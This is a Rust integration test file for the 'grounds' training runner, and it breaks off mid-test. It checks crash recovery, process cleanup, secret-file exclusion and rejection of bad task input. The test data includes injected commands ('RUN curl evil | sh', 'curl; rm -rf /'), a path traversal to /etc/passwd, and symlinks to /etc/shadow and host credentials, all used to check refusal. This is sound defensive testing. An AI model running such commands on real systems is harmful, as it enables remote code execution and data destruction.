//! Accidents and hostile input, through the real binary (attached, and local on the real engine where it
//! applies): a run is never lost, nothing of the host leaks into a result or a package, nothing keeps
//! running that should not, bad input is refused before anything runs, and resources stay bounded.

use std::io::Write;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::common::{
    all_gone, assert_nothing_left, both, docker, measured, process_runs, text, Running, Sandbox,
    ZipFile, PYTHON_BASE,
};
use serde_json::Value;

fn run_ok(sandbox: &Sandbox, args: &[&str]) -> Value {
    let (output, answer) = sandbox.json(args);
    assert!(output.status.success(), "{args:?}: {}", both(&output));
    answer
}

/// A command task whose source holds `train.py` (or, for `sh`, `train.sh`).
fn task_with(sandbox: &Sandbox, name: &str, script: &str, extra: &str) -> PathBuf {
    sandbox.command_task(name, script, extra)
}

/// The same command task for Docker, on the debootstrapped Python image.
fn local_task_with(sandbox: &Sandbox, name: &str, script: &str, extra: &str) -> PathBuf {
    sandbox.command_task(
        name,
        script,
        &format!("[container]\nbase_image = \"{PYTHON_BASE}\"\n{extra}"),
    )
}

// ---- A. A run is never lost --------------------------------------------------------------------------

const NON_FINITE: &str = r####"
import sys
good = "--mode" in sys.argv and sys.argv[sys.argv.index("--mode") + 1] == "good"
print("###METRIC###loss:" + ("0.3" if good else "NaN") + "###")
print("###METRIC###up:inf###")
print("###METRIC###down:-Infinity###")
print("###METRIC###big:1e400###")
print("###METRIC###acc:0.5###")
"####;

#[test]
fn non_finite_metrics_are_kept_and_every_command_works_on_them() {
    let sandbox = Sandbox::new();
    let task = task_with(
        &sandbox,
        "diverge",
        NON_FINITE,
        "[hyperparameters]\nmode = \"bad\"\n",
    );
    let task = task.to_str().unwrap();
    let bad = run_ok(&sandbox, &["train", "attached", task]);
    assert_eq!(bad["status"], "Completed");
    assert_eq!(bad["metrics"]["loss"], "NaN");
    assert_eq!(bad["metrics"]["up"], "Infinity");
    assert_eq!(bad["metrics"]["down"], "-Infinity");
    assert_eq!(bad["metrics"]["big"], "Infinity");
    assert_eq!(bad["metrics"]["acc"], 0.5);
    let good = run_ok(&sandbox, &["train", "attached", task, "--hp", "mode=good"]);
    let (bad_id, good_id) = (bad["id"].as_str().unwrap(), good["id"].as_str().unwrap());

    let mut zip = ZipFile::open(Path::new(bad["result"].as_str().unwrap()));
    let metrics = zip.read("metrics.json");
    assert!(!metrics.contains("null"), "{metrics}");
    assert!(
        metrics.contains("\"NaN\"") && metrics.contains("\"-Infinity\""),
        "{metrics}"
    );

    // list, as JSON and as a table, sorted either way: NaN after every finite value.
    let list = run_ok(&sandbox, &["results", "list"]);
    assert_eq!(list.as_array().unwrap().len(), 2);
    for order in [
        &["--sort", "loss"][..],
        &["--sort", "loss", "--ascending"][..],
    ] {
        let mut args = vec!["results", "list"];
        args.extend_from_slice(order);
        let sorted = run_ok(&sandbox, &args);
        assert_eq!(sorted[0]["id"], good_id, "{order:?}: {sorted}");
        assert_eq!(sorted[1]["metrics"]["loss"], "NaN");
    }
    let table = sandbox.run(&["results", "list"]);
    assert!(table.status.success(), "{}", both(&table));
    assert!(
        text(&table.stdout).contains("big=inf down=-inf"),
        "{}",
        both(&table)
    );

    let show = sandbox.run(&["results", "show", bad_id]);
    assert!(show.status.success(), "{}", both(&show));
    let shown = text(&show.stdout);
    assert!(shown.contains("NaN") && shown.contains("-inf"), "{shown}");
    let show_json = run_ok(&sandbox, &["results", "show", bad_id]);
    assert_eq!(show_json["metrics"]["loss"]["final"], "NaN");
    let opened = run_ok(&sandbox, &["results", "open", bad_id]);
    assert_eq!(opened["metrics"]["up"], "Infinity");
    let compare = sandbox.run(&["results", "compare", bad_id, good_id]);
    assert!(compare.status.success(), "{}", both(&compare));
    assert!(text(&compare.stdout).contains("NaN"), "{}", both(&compare));
    let compare_json = run_ok(&sandbox, &["results", "compare", bad_id, good_id]);
    assert_eq!(compare_json["metrics"]["loss"][bad_id], "NaN");

    // Reuse reads the stored result like any other.
    let again = run_ok(&sandbox, &["train", "attached", task]);
    assert_eq!(again["reused"], true, "{again}");
    assert_eq!(again["id"], bad_id);
}

/// A job that leaves every kind of odd file in model/ and output/ (the paths of the job's own view).
const ODD_FILES: &str = r####"
import os, socket, sys
m = os.environ["SM_MODEL_DIR"]
o = os.environ["SM_OUTPUT_DATA_DIR"]
os.makedirs(m + "/ckpt", exist_ok=True)
open(m + "/weights.bin", "w").write("weights")
open(m + "/ckpt/3.bin", "w").write("three")
os.symlink("ckpt/3.bin", m + "/latest")
os.symlink(o + "/preds.csv", m + "/preds")
os.symlink("checkpoint-latest", m + "/dangling")
os.symlink("loop", m + "/loop")
os.symlink(sys.argv[sys.argv.index("--secret") + 1], m + "/secret")
os.symlink("../../../../../../../../etc/hostname", m + "/climb")
os.symlink("../code/train.py", m + "/code")
open(o + "/preds.csv", "w").write("p\n")
os.mkfifo(o + "/fifo")
s = socket.socket(socket.AF_UNIX)
s.bind(o + "/sock")
print("left odd files")
"####;

fn assert_odd_files_handled(answer: &Value, secret: &str, host_secret: &[u8]) {
    assert_eq!(answer["status"], "Completed", "{answer}");
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    let names = zip.names();
    for name in [
        "model/weights.bin",
        "model/ckpt/3.bin",
        "model/latest",
        "model/preds",
        "output/data/preds.csv",
        "logs.txt",
    ] {
        assert!(names.contains(&name.to_string()), "{name} in {names:?}");
    }
    for name in ["dangling", "loop", "secret", "climb", "code"] {
        assert!(
            !names.contains(&format!("model/{name}")),
            "{name} in {names:?}"
        );
    }
    assert!(!names
        .iter()
        .any(|n| n.ends_with("fifo") || n.ends_with("sock")));
    // Nothing read through a link that leaves the job.
    for index in 0..zip.0.len() {
        let mut entry = zip.0.by_index(index).unwrap();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
        assert!(
            host_secret.is_empty() || !bytes.windows(host_secret.len()).any(|w| w == host_secret),
            "{} holds the host's file",
            entry.name()
        );
    }
    let job = zip.json("job.json");
    let left: Vec<(String, String)> = job["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            (
                l["path"].as_str().unwrap().to_string(),
                l["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let reason = |path: &str| {
        left.iter()
            .find(|(p, _)| p == path)
            .map(|(_, r)| r.clone())
            .unwrap_or_else(|| panic!("{path} is not recorded as left out: {left:?}"))
    };
    assert!(reason("model/dangling").contains("checkpoint-latest"));
    assert!(reason("model/loop").contains("loop"));
    assert!(reason("model/secret").contains(secret), "{left:?}");
    assert!(reason("model/climb").contains("out of the job"));
    assert!(reason("model/code").contains("not part of the result"));
    assert!(reason("output/data/fifo").contains("named pipe"));
    assert!(reason("output/data/sock").contains("socket"));
    assert_eq!(answer["left_out"].as_array().unwrap().len(), left.len());
}

#[test]
fn odd_files_and_links_out_of_the_job_are_left_out_and_recorded_attached() {
    let sandbox = Sandbox::new();
    let secret_file = sandbox.write("host/credentials.txt", "host-secret-bytes");
    let task = task_with(&sandbox, "odd", ODD_FILES, "");
    let answer = run_ok(
        &sandbox,
        &[
            "train",
            "attached",
            task.to_str().unwrap(),
            "--hp",
            &format!("secret={}", secret_file.display()),
        ],
    );
    assert_odd_files_handled(&answer, secret_file.to_str().unwrap(), b"host-secret-bytes");
    let id = answer["id"].as_str().unwrap();
    let show = sandbox.run(&["results", "show", id]);
    let shown = text(&show.stdout);
    assert!(
        shown.contains("left out (7 file(s)") && shown.contains("model/dangling"),
        "{shown}"
    );
    // The link that stays inside comes back as a link.
    let opened = run_ok(&sandbox, &["results", "open", id]);
    let folder = Path::new(opened["folder"].as_str().unwrap());
    assert_eq!(
        std::fs::read_link(folder.join("model/latest")).unwrap(),
        Path::new("ckpt/3.bin")
    );
    assert_eq!(
        std::fs::read_to_string(folder.join("model/latest")).unwrap(),
        "three"
    );
    assert_eq!(
        std::fs::read_to_string(folder.join("model/preds")).unwrap(),
        "p\n"
    );
}

#[test]
fn odd_files_and_links_out_of_the_container_are_left_out_and_recorded_local() {
    let sandbox = Sandbox::new();
    let task = local_task_with(&sandbox, "odd-local", ODD_FILES, "");
    // In the container /etc/shadow is the image's; grounds collects on the host, where it is the host's.
    let host_shadow = std::fs::read("/etc/shadow").unwrap_or_default();
    let answer = run_ok(
        &sandbox,
        &[
            "train",
            "local",
            task.to_str().unwrap(),
            "--hp",
            "secret=/etc/shadow",
        ],
    );
    let first_line = host_shadow
        .split(|b| *b == b'\n')
        .next()
        .unwrap_or_default()
        .to_vec();
    assert_odd_files_handled(&answer, "/etc/shadow", &first_line);
    assert_nothing_left(answer["id"].as_str().unwrap());
}

/// A copy of grounds that an unprivileged user may run (the build may lie below a private home).
fn binary_for_anyone(sandbox: &Sandbox) -> PathBuf {
    crate::common::copy_of_grounds(&sandbox.path().join("bin"))
}

fn open_up(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
}

#[test]
fn an_unreadable_file_is_left_out_and_the_rest_is_kept() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "unreadable/src/train.sh",
        "echo weights > \"$SM_MODEL_DIR/ok.bin\"\necho locked > \"$SM_MODEL_DIR/locked.bin\"\n\
         chmod 000 \"$SM_MODEL_DIR/locked.bin\"\necho '###METRIC###acc:0.9###'\n",
    );
    let task = sandbox.write(
        "unreadable/task.toml",
        "[task]\nname = \"unreadable\"\n[task.command]\nsource = \"src\"\nrun = [\"sh\", \"train.sh\"]\n",
    );
    // As root every file is readable: run grounds as nobody, as a user would run it.
    let root = unsafe { libc::getuid() } == 0;
    let binary = binary_for_anyone(&sandbox);
    for dir in [sandbox.path(), &sandbox.path().join("bin")] {
        open_up(dir);
    }
    let mut command = if root {
        let mut command = Command::new("setpriv");
        command.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
        command.arg(&binary);
        command
    } else {
        Command::new(&binary)
    };
    command
        .args(["train", "attached", task.to_str().unwrap(), "--json"])
        .current_dir(sandbox.path())
        .env("GROUNDS_HOME", sandbox.home())
        .env("HOME", sandbox.path())
        .env("TMPDIR", "/tmp");
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", both(&output));
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["status"], "Completed");
    assert_eq!(answer["metrics"]["acc"], 0.9);
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    assert_eq!(zip.read("model/ok.bin"), "weights\n");
    assert!(!zip.names().contains(&"model/locked.bin".to_string()));
    let job = zip.json("job.json");
    let left = &job["left_out"][0];
    assert_eq!(left["path"], "model/locked.bin");
    assert!(
        left["reason"]
            .as_str()
            .unwrap()
            .contains("ermission denied"),
        "{left}"
    );
}

/// A job that says it started, then waits; `pid` is where it writes its process id.
const WAITS: &str = r####"
import os, sys, time
open(sys.argv[sys.argv.index("--pid") + 1], "w").write(str(os.getpid()))
print("job started", flush=True)
time.sleep(120)
"####;

fn read_pid(path: &Path) -> i32 {
    for _ in 0..100 {
        if let Ok(text) = std::fs::read_to_string(path) {
            if let Ok(pid) = text.trim().parse() {
                return pid;
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("no pid in {}", path.display());
}

fn set_old(path: &Path) {
    let old = std::time::SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(old)
        .unwrap();
}

#[test]
fn a_killed_grounds_takes_its_attached_job_along_and_the_next_run_cleans_up() {
    let sandbox = Sandbox::new();
    let tmp = sandbox.path().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let pid_file = sandbox.path().join("job.pid");
    let task = task_with(&sandbox, "killed", WAITS, "");
    let mut command = sandbox.command(&[
        "train",
        "attached",
        task.to_str().unwrap(),
        "--hp",
        &format!("pid={}", pid_file.display()),
    ]);
    command.env("TMPDIR", &tmp);
    let running = Running::start(command);
    running.wait_for("job started", 60);
    let job = read_pid(&pid_file);
    running.signal(libc::SIGKILL);
    let output = running.finish(10);
    assert_eq!(output.status.code(), None, "killed: {}", both(&output));
    assert!(all_gone(&[job], 15), "the job outlived grounds");

    let results = sandbox.home().join("results");
    let partial: Vec<PathBuf> = std::fs::read_dir(&results)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().ends_with(".partial"))
        .collect();
    assert_eq!(partial.len(), 1, "the killed run left its staging file");
    let roots: Vec<PathBuf> = std::fs::read_dir(&tmp)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("grounds-killed-")
        })
        .collect();
    assert_eq!(roots.len(), 1, "the killed run left its job root");
    let packages: Vec<PathBuf> = std::fs::read_dir(&tmp)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("grounds-package-")
        })
        .collect();
    assert_eq!(packages.len(), 1, "the killed run left its package");
    // Leftovers younger than half a minute are spared (their owner may be about to lock them).
    set_old(&partial[0]);
    set_old(&roots[0].join(".grounds-owner"));
    set_old(&packages[0]);

    let quick = task_with(&sandbox, "quick", "print('###METRIC###acc:1###')\n", "");
    let mut command = sandbox.command(&["train", "attached", quick.to_str().unwrap()]);
    command.env("TMPDIR", &tmp);
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", both(&output));
    assert!(
        text(&output.stderr).contains("Cleaned"),
        "{}",
        both(&output)
    );
    assert!(!partial[0].exists() && !roots[0].exists() && !packages[0].exists());
}

#[test]
fn a_hangup_stops_the_job_like_sigterm() {
    let sandbox = Sandbox::new();
    let pid_file = sandbox.path().join("job.pid");
    let task = task_with(&sandbox, "hangup", WAITS, "");
    let running = Running::start(sandbox.command(&[
        "train",
        "attached",
        task.to_str().unwrap(),
        "--json",
        "--hp",
        &format!("pid={}", pid_file.display()),
    ]));
    running.wait_for("job started", 60);
    let job = read_pid(&pid_file);
    running.signal(libc::SIGHUP);
    let output = running.finish(30);
    assert_eq!(output.status.code(), Some(130), "{}", both(&output));
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["status"], "Stopped");
    assert!(!process_runs(job));
}

/// A job that starts processes in the background every way there is, then exits at once.
const BACKGROUND: &str = r####"
import os, subprocess, sys, time
o = os.environ["SM_OUTPUT_DATA_DIR"]
pids = [
    subprocess.Popen(["sleep", "300"]).pid,
    subprocess.Popen(["sleep", "301"], start_new_session=True).pid,
    subprocess.Popen(["sh", "-c", "trap '' TERM; sleep 302"]).pid,
]
subprocess.run(["sh", "-c", "setsid sleep 303 > /dev/null 2>&1 & echo $! > " + o + "/daemon.pid"])
pids.append(int(open(o + "/daemon.pid").read()))
open(o + "/pids.txt", "w").write(" ".join(map(str, pids)))
print("###METRIC###acc:1###", flush=True)
"####;

fn background_pids(answer: &Value) -> Vec<i32> {
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    zip.read("output/data/pids.txt")
        .split_whitespace()
        .map(|p| p.parse().unwrap())
        .collect()
}

#[test]
fn background_processes_end_with_the_main_process_attached() {
    let sandbox = Sandbox::new();
    let task = task_with(&sandbox, "background", BACKGROUND, "");
    let started = Instant::now();
    let answer = run_ok(&sandbox, &["train", "attached", task.to_str().unwrap()]);
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "grounds waited for the background processes: {:?}",
        started.elapsed()
    );
    assert_eq!(answer["status"], "Completed");
    let pids = background_pids(&answer);
    assert_eq!(pids.len(), 4);
    assert!(all_gone(&pids, 5), "background processes outlived the job");
}

#[test]
fn background_processes_end_with_the_main_process_local() {
    let sandbox = Sandbox::new();
    let task = local_task_with(&sandbox, "background-local", BACKGROUND, "");
    let started = Instant::now();
    let answer = run_ok(&sandbox, &["train", "local", task.to_str().unwrap()]);
    assert!(
        started.elapsed() < Duration::from_secs(90),
        "grounds waited for the background processes: {:?}",
        started.elapsed()
    );
    assert_eq!(answer["status"], "Completed");
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    assert!(
        zip.read("logs.txt")
            .contains("process(es) it left running were stopped"),
        "{}",
        zip.read("logs.txt")
    );
    assert_nothing_left(answer["id"].as_str().unwrap());
}

#[test]
fn containers_of_a_killed_grounds_are_removed_by_the_next_run() {
    let sandbox = Sandbox::new();
    let name = format!("orphan-{}", std::process::id());
    let task = local_task_with(
        &sandbox,
        &name,
        "import time\nprint('job started', flush=True)\ntime.sleep(300)\n",
        "",
    );
    let running = Running::start(sandbox.command(&["train", "local", task.to_str().unwrap()]));
    running.wait_for("job started", 120);
    running.signal(libc::SIGKILL);
    running.finish(10);
    let filter = format!("name=grounds-{name}-");
    let orphans = docker(&["ps", "-a", "-q", "--filter", &filter]);
    assert!(
        !orphans.trim().is_empty(),
        "the container runs on after grounds was killed"
    );

    let titanic = crate::common::fixture("titanic/task.toml");
    let output = sandbox.run(&["train", "local", titanic.to_str().unwrap(), "--force"]);
    assert!(output.status.success(), "{}", both(&output));
    assert!(
        text(&output.stderr).contains("Removed"),
        "{}",
        both(&output)
    );
    assert_eq!(
        docker(&["ps", "-a", "-q", "--filter", &filter]).trim(),
        "",
        "the orphaned container was not removed"
    );
}

/// A builtin task that takes a while: many rows, many folds.
fn slow_builtin(sandbox: &Sandbox, name: &str) -> PathBuf {
    let mut csv = String::from("y,a,b,c,d,e,f,g,h\n");
    let mut state: u64 = 7;
    for _ in 0..200_000 {
        let mut row = Vec::new();
        for _ in 0..8 {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            row.push(format!("{:.4}", (state >> 11) as f64 / (1u64 << 53) as f64));
        }
        let y = if row[0].as_bytes()[2] > b'4' { 1 } else { 0 };
        csv.push_str(&format!("{y},{}\n", row.join(",")));
    }
    sandbox.write(&format!("{name}/data.csv"), &csv);
    sandbox.write(
        &format!("{name}/task.toml"),
        &format!(
            "[task]\nname = \"{name}\"\n[task.builtin]\nkind = \"single-frame\"\nlabel = \"y\"\nfolds = 50\n\
             [channels]\ntraining = \"data.csv\"\n"
        ),
    )
}

fn assert_builtin_stopped(output: &std::process::Output, within: Duration, elapsed: Duration) {
    assert_eq!(output.status.code(), Some(130), "{}", both(output));
    assert!(
        elapsed < within,
        "the builtin did not stop at a safe point: {elapsed:?}\n{}",
        both(output)
    );
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["status"], "Stopped");
    let reason = answer["failure_reason"].as_str().unwrap();
    assert!(
        reason.contains("The builtin task was stopped by SIGTERM"),
        "{reason}"
    );
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    assert!(zip.read("output/failure").contains("stopped by SIGTERM"));
}

/// Starts a slow builtin in `mode`, asks it to stop once its first split is done, and checks that it
/// stopped at a safe point well within the grace; returns the answer.
fn stop_slow_builtin(mode: &str, startup: u64) -> Value {
    let sandbox = Sandbox::new();
    let task = slow_builtin(&sandbox, &format!("slow-{mode}"));
    let running = Running::start(sandbox.command(&[
        "train",
        mode,
        task.to_str().unwrap(),
        "--json",
        "--grace",
        "120",
    ]));
    running.wait_for("stage fit: split 1 of 50", startup);
    let asked = Instant::now();
    running.signal(libc::SIGINT);
    let output = running.finish(180);
    assert_builtin_stopped(&output, Duration::from_secs(60), asked.elapsed());
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn a_builtin_stops_at_a_safe_point_on_sigterm_attached() {
    stop_slow_builtin("attached", 120);
}

#[test]
fn a_builtin_stops_at_a_safe_point_on_sigterm_as_pid_1_in_a_container() {
    // Without the stop flag, PID 1 ignores SIGTERM and the engine kills it only after the whole grace.
    let answer = stop_slow_builtin("local", 180);
    assert_eq!(answer["exit_code"], 143);
    assert_nothing_left(answer["id"].as_str().unwrap());
}

// ---- B. Nothing of the host leaks ----------------------------------------------------------------------

#[test]
fn packages_refuse_links_out_of_the_source_and_keep_links_inside() {
    let sandbox = Sandbox::new();
    let credentials = sandbox.write("home/.aws/credentials", "aws_secret_access_key = x");
    let task = task_with(
        &sandbox,
        "links",
        "print(open('lib/shared.py').read().strip(), open('alias.py').read().strip())\n",
        "",
    );
    sandbox.write("links/src/common/shared.py", "VALUE = 1");
    symlink("common", sandbox.path().join("links/src/lib")).unwrap();
    symlink(
        "common/shared.py",
        sandbox.path().join("links/src/alias.py"),
    )
    .unwrap();
    let answer = run_ok(&sandbox, &["train", "attached", task.to_str().unwrap()]);
    assert_eq!(answer["status"], "Completed", "{answer}");
    let mut zip = ZipFile::open(Path::new(answer["result"].as_str().unwrap()));
    assert!(zip.read("logs.txt").contains("VALUE = 1 VALUE = 1"));

    symlink(&credentials, sandbox.path().join("links/src/settings.ini")).unwrap();
    let output = sandbox.run(&["train", "attached", task.to_str().unwrap(), "--force"]);
    assert_eq!(output.status.code(), Some(2), "{}", both(&output));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("settings.ini") && stderr.contains(credentials.to_str().unwrap()),
        "{stderr}"
    );
    assert_eq!(sandbox.result_zips().len(), 1, "nothing new is stored");
}

#[test]
fn the_usual_secret_files_are_refused_in_packages() {
    for name in [
        ".netrc",
        ".pypirc",
        "id_ecdsa",
        "cert.p12",
        "secrets.yaml",
        ".git-credentials",
    ] {
        let sandbox = Sandbox::new();
        let task = task_with(&sandbox, "secrets", "print(1)\n", "");
        sandbox.write(&format!("secrets/src/{name}"), "secret");
        let output = sandbox.run(&["train", "attached", task.to_str().unwrap()]);
        assert_eq!(output.status.code(), Some(2), "{name}: {}", both(&output));
        assert!(text(&output.stderr).contains(name), "{}", both(&output));
    }
}

#[test]
fn container_env_secrets_are_masked_in_plans_and_warned_about() {
    let sandbox = Sandbox::new();
    let task = task_with(
        &sandbox,
        "envs",
        "print(1)\n",
        "[container]\nenv = { API_TOKEN = \"s3cret-value\", LOG_LEVEL = \"debug\" }\n",
    );
    for mode in ["attached", "local"] {
        let output = sandbox.run(&["train", mode, task.to_str().unwrap(), "--dry-run"]);
        assert!(output.status.success(), "{}", both(&output));
        let plan = text(&output.stdout);
        assert!(!plan.contains("s3cret-value"), "{mode}: {plan}");
        assert!(plan.contains("debug"), "{plan}");
        assert!(
            text(&output.stderr).contains("API_TOKEN") && text(&output.stderr).contains("pass_env"),
            "{}",
            both(&output)
        );
    }
}

// ---- D. Bad input is refused before anything runs ------------------------------------------------------

#[test]
fn bad_input_is_refused_before_anything_runs() {
    let sandbox = Sandbox::new();
    sandbox.write("data/d.csv", "y,a\n0,1\n1,2\n0,3\n1,4\n");
    sandbox.write("cmd/src/train.py", "print(1)\n");
    symlink("missing.csv", sandbox.path().join("data/gone.csv")).unwrap();
    let builtin = |extra: &str, channels: &str| {
        format!(
            "[task]\nname = \"bad\"\n[task.builtin]\nkind = \"single-frame\"\nlabel = \"y\"\n{extra}\n\
             [channels]\n{channels}\n"
        )
    };
    let command = |extra: &str| {
        format!(
            "[task]\nname = \"bad\"\n[task.command]\nsource = \"cmd/src\"\nrun = [\"python3\", \"train.py\"]\n{extra}\n"
        )
    };
    let fine_channel = "training = \"data/d.csv\"";
    let cases: Vec<(String, Vec<&str>, Vec<&str>)> = vec![
        (
            builtin("", "\".\" = \"data/d.csv\""),
            vec![],
            vec!["channel name `.`"],
        ),
        (
            builtin("", "\"..\" = \"data/d.csv\""),
            vec![],
            vec!["channel name `..`"],
        ),
        (
            builtin("folds = 1", fine_channel),
            vec![],
            vec!["task.toml:3:", "folds = 1"],
        ),
        (
            builtin("test_size = 1.5", fine_channel),
            vec![],
            vec!["test_size = 1.5"],
        ),
        (
            builtin("test_size = 0.0", fine_channel),
            vec![],
            vec!["test_size = 0"],
        ),
        (
            builtin("", fine_channel),
            vec!["--hp", "folds=1"],
            vec!["--hp folds=1", "`folds` must be at least 2"],
        ),
        (
            builtin("", fine_channel),
            vec!["--hp", "test_size=2"],
            vec!["`test_size` must be between 0 and 1"],
        ),
        (
            builtin("", fine_channel),
            vec!["--hp", "C=NaN"],
            vec!["`C` = `NaN` is not a finite number"],
        ),
        (
            builtin("", fine_channel),
            vec!["--hp", "tol=1e400"],
            vec!["`tol` = `1e400` is not a finite number"],
        ),
        (
            command("[channels]\ntraining = \"s3://bucket/data\""),
            vec!["--dry-run"],
            vec!["training", "in S3", "AWS"],
        ),
        (command(""), vec!["--grace", "100000"], vec!["--grace"]),
        (
            command("[container]\nbase_image = \"python:3.11\\nRUN curl evil | sh\""),
            vec![],
            vec!["task.toml:6:", "base_image", "control character"],
        ),
        (
            command("[container]\nsystem_packages = [\"curl; rm -rf /\"]"),
            vec![],
            vec!["system_packages", "curl; rm -rf /"],
        ),
        (
            command("[container]\nenv = { \"A=B\" = \"x\" }"),
            vec![],
            vec!["env name `A=B`"],
        ),
        (
            command("[container]\ndockerfile = \"nowhere/Dockerfile\""),
            vec![],
            vec!["dockerfile", "does not exist"],
        ),
        (
            command("").replace(
                "run = [",
                "requirements = \"cmd/src/../../../../../../etc/passwd\"\nrun = [",
            ),
            vec![],
            vec!["requirements", "outside the source folder"],
        ),
        (
            builtin("", "training = \"data\""),
            vec![],
            vec!["data/gone.csv", "missing.csv", "does not exist"],
        ),
    ];
    for (text_of_task, args, expected) in cases {
        let task = sandbox.path().join("task.toml");
        std::fs::write(&task, &text_of_task).unwrap();
        for mode in ["attached", "local"] {
            let mut all = vec!["train", mode, task.to_str().unwrap()];
            all.extend(args.iter().copied());
            let output = sandbox.run(&all);
            assert_eq!(
                output.status.code(),
                Some(2),
                "{all:?} on\n{text_of_task}\n{}",
                both(&output)
            );
            let stderr = text(&output.stderr);
            for needle in &expected {
                assert!(
                    stderr.contains(needle),
                    "`{needle}` for {args:?} on\n{text_of_task}\n{stderr}"
                );
            }
            assert!(!stderr.contains("panicked"), "{stderr}");
            assert!(
                sandbox.result_zips().is_empty(),
                "a result was stored for {args:?}"
            );
        }
    }
}

#[test]
fn os_errors_are_said_once() {
    let sandbox = Sandbox::new();
    let output = sandbox.run(&["train", "attached", "nowhere.toml"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    assert_eq!(stderr.matches("os error 2").count(), 1, "{stderr}");
}

#[test]
fn a_sweep_with_a_repeated_value_runs_it_once() {
    let sandbox = Sandbox::new();
    let task = task_with(&sandbox, "repeat", "print('###METRIC###acc:1###')\n", "");
    let (output, answer) = sandbox.json(&[
        "train",
        "attached",
        task.to_str().unwrap(),
        "--set",
        "epochs=2,2",
    ]);
    assert!(output.status.success(), "{}", both(&output));
    assert!(
        text(&output.stderr).contains("more than once"),
        "{}",
        both(&output)
    );
    assert_eq!(answer["status"], "Completed", "{answer}");
    assert_eq!(sandbox.result_zips().len(), 1);
    // Values whose short names coincide are distinct members with distinct names.
    let (output, rows) = sandbox.json(&[
        "train",
        "attached",
        task.to_str().unwrap(),
        "--set",
        "epochs=1.0,10",
        "--set",
        "seed=1,2",
    ]);
    assert!(output.status.success(), "{}", both(&output));
    let names: std::collections::BTreeSet<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names.len(), 4, "{rows}");
    // Told apart by their values, not by a counter.
    assert!(
        names.contains("E1p0-S1") && names.contains("E10-S1"),
        "{rows}"
    );
}

// ---- results open ---------------------------------------------------------------------------------------

#[test]
fn opening_again_keeps_what_a_user_added_and_never_overwrites_a_change() {
    let sandbox = Sandbox::new();
    let task = task_with(
        &sandbox,
        "reopen",
        "import os\nopen(os.environ['SM_MODEL_DIR'] + '/m.txt', 'w').write('model')\n",
        "",
    );
    let answer = run_ok(&sandbox, &["train", "attached", task.to_str().unwrap()]);
    let id = answer["id"].as_str().unwrap();
    let opened = run_ok(&sandbox, &["results", "open", id]);
    let folder = PathBuf::from(opened["folder"].as_str().unwrap());
    std::fs::write(folder.join("notes.md"), "my analysis").unwrap();
    std::fs::remove_file(folder.join("logs.txt")).unwrap();

    let again = run_ok(&sandbox, &["results", "open", id]);
    assert_eq!(again["restored"], 1);
    assert_eq!(again["kept"], serde_json::json!(["notes.md"]));
    assert_eq!(
        std::fs::read_to_string(folder.join("notes.md")).unwrap(),
        "my analysis"
    );
    assert!(
        folder.join("logs.txt").exists(),
        "a deleted file of the result is put back"
    );

    std::fs::write(folder.join("model/m.txt"), "edited").unwrap();
    let output = sandbox.run(&["results", "open", id]);
    assert_eq!(output.status.code(), Some(2), "{}", both(&output));
    assert!(
        text(&output.stderr).contains("model/m.txt"),
        "{}",
        both(&output)
    );
    assert_eq!(
        std::fs::read_to_string(folder.join("model/m.txt")).unwrap(),
        "edited"
    );
    assert_eq!(
        std::fs::read_to_string(folder.join("notes.md")).unwrap(),
        "my analysis"
    );

    // A failed opening leaves nothing beside the folder.
    let small = sandbox.run(&[
        "results",
        "open",
        id,
        "--to",
        "elsewhere",
        "--max-bytes",
        "10",
    ]);
    assert_eq!(small.status.code(), Some(2), "{}", both(&small));
    let leftovers: Vec<String> = std::fs::read_dir(sandbox.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".unpacking"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    assert!(!sandbox.path().join("elsewhere").exists());

    // --to a file: refused, nothing left.
    sandbox.write("a-file", "x");
    let onto_file = sandbox.run(&["results", "open", id, "--to", "a-file"]);
    assert_eq!(onto_file.status.code(), Some(2), "{}", both(&onto_file));
    assert_eq!(
        std::fs::read_to_string(sandbox.path().join("a-file")).unwrap(),
        "x"
    );

    // --to a link to an empty folder: the result goes into the folder, the link stays a link.
    std::fs::create_dir_all(sandbox.path().join("real")).unwrap();
